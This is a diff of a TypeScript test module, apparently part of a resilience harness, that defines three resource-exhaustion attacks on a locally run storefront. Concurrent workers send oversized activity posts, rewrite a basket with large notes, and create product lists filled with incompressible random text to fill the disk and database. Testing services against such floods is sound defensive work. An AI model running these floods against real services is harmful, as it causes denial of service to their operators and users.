@@ -1,5 +1,5 @@
 import { randomBytes } from 'node:crypto';
-import { type Begin, type Client, clientAt, hands } from './one-client.ts';
+import { type Client, clientAt, repeat, type StartAttack } from './attack-client.ts';
 import { expect } from './trial.ts';
 
 const BASE = '/eu/en-IE';
@@ -8,10 +8,10 @@ const FORM = { 'content-type': 'application/x-www-form-urlencoded' };
 const JSON_TYPE = { 'content-type': 'application/json' };
 
 const originOf = (port: number) => ({ origin: `http://127.0.0.1:${port}` });
-/** Text that a database cannot compress to nothing. */
+/** Incompressible text. */
 const noise = (characters: number) => randomBytes(characters).toString('base64url').slice(0, characters);
 
-/** Puts the first product of a search into the client's bag; returns the basket's id. */
+/** Adds a product to the client's bag and returns the basket id. */
 async function openBasket(client: Client, port: number): Promise<string> {
   const found = (await client.get(`${BASE}/search?q=linen`)).text;
   const masterId = /\/pd\/[\w-]*?(\d{6,})/.exec(found)?.[1] ?? '';
@@ -26,20 +26,20 @@ async function openBasket(client: Client, port: number): Promise<string> {
   return (JSON.parse(text) as { bag: { id: string } }).bag.id;
 }
 
-const activity: Begin = async (port, address) => {
+const activity: StartAttack = async (port, address) => {
   const client = clientAt(address, port, 16);
   const headers = { ...originOf(port), ...JSON_TYPE, cookie: 'vitrine_consent=necessary.statistics' };
   const body = JSON.stringify(
     Array.from({ length: 27 }, () => ({ activity: 'viewPage', currentLocation: noise(1900) })),
   );
-  return hands(client, 16, () => client.send('POST', `${BASE}/resource/activity`, body, headers));
+  return repeat(client, 16, () => client.send('POST', `${BASE}/resource/activity`, body, headers));
 };
 
-const rewriting: Begin = async (port, address) => {
+const rewriting: StartAttack = async (port, address) => {
   const client = clientAt(address, port, 8);
   const id = await openBasket(client, port);
   const path = `/mobify/proxy/api/checkout/shopper-baskets/v2/${ORG}/baskets/${id}?siteId=RivageEU`;
-  return hands(client, 8, () => {
+  return repeat(client, 8, () => {
     const notes = Object.fromEntries(
       Array.from({ length: 15 }, (_, index) => [`c_note${index}`, noise(3900)]),
     );
@@ -47,7 +47,7 @@ const rewriting: Begin = async (port, address) => {
   });
 };
 
-const filling: Begin = async (port, address) => {
+const filling: StartAttack = async (port, address) => {
   const client = clientAt(address, port, 8);
   const id = await openBasket(client, port);
   const basket = await client.get(
@@ -57,7 +57,7 @@ const filling: Begin = async (port, address) => {
   const { customerId } = customerInfo;
   const lists = `/mobify/proxy/api/customer/shopper-customers/v1/${ORG}/customers`;
   const body = () => JSON.stringify({ type: 'custom_1', name: noise(200), description: noise(990) });
-  return hands(client, 8, () =>
+  return repeat(client, 8, () =>
     client.send('POST', `${lists}/${customerId}/product-lists?siteId=RivageEU`, body(), {
       ...originOf(port),
       ...JSON_TYPE,
@@ -65,9 +65,9 @@ const filling: Begin = async (port, address) => {
   );
 };
 
-/** Attacks that write: what one client fills the disk and the database with. */
-export const floods: Record<string, [what: string, begin: Begin]> = {
-  activity: ['16 hands tell activity, 50 KB at a time', activity],
-  rewriting: ['8 hands rewrite a basket of 60 KB', rewriting],
-  filling: ['8 hands add lists to an account', filling],
+/** Attacks that write data, to fill the disk and the database. */
+export const floods: Record<string, [what: string, begin: StartAttack]> = {
+  activity: ['16 workers send activities, 50 KB at a time', activity],
+  rewriting: ['8 workers rewrite a basket of 60 KB', rewriting],
+  filling: ['8 workers add lists to an account', filling],
 };
